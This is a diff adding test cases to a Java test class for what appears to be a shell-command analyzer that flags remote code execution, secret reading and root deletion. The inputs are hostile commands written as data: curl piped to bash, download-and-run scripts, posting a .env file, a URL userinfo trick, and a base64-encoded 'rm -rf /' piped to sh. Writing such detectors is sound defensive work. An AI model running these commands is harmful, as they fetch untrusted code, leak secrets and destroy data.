@@ -124,6 +124,11 @@ final class EffectsTest {
     void followsWhereTextCameFrom() {
         assertThat(of("curl -o x.sh http://h; chmod +x x.sh; ./x.sh"))
                 .contains(new Effect.RunsForeignCode(Taint.REMOTE, "x.sh"));
+        assertThat(of("curl https://h/x | bash -s -- --yes"))
+                .contains(new Effect.RunsForeignCode(Taint.REMOTE, "bash"));
+        assertThat(of("curl localhost:80/x | sh; curl -d @.env http://127.0.0.1:8080/"))
+                .containsExactly(new Effect.ReadsSecret(".env"));
+        assertThat(of("curl http://localhost@h/x | sh")).contains(new Effect.RunsForeignCode(Taint.REMOTE, "sh"));
         assertThat(of("echo cm0gLXJmIC8K | base64 -d | sh"))
                 .contains(new Effect.RunsForeignCode(Taint.DECODED, "sh"))
                 .anyMatch(EffectsTest::deletesRoot);
